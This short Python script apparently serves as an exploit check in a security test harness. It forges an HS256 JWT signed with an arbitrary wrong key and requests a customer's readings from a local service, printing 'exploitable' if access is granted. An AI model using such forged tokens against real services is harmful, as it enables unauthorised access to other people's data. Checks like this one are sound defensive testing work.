import os
import sys
import time
import traceback

import httpx

BASE = os.environ.get("BASE_URL", "http://127.0.0.1:8000")
c = httpx.Client(base_url=BASE, timeout=60)


def _fail(t, v, tb):
    traceback.print_exception(t, v, tb)
    os._exit(2)


sys.excepthook = _fail


def done(hit):
    print("exploitable" if hit else "not exploitable")
    sys.exit(0 if hit else 1)


import jwt

t = jwt.encode({"sub": "office", "exp": int(time.time()) + 600}, "some-other-key-some-other-key-some-other", algorithm="HS256")
r = c.get("/customers/office/readings", headers={"Authorization": "Bearer " + t})
done(r.status_code == 200)
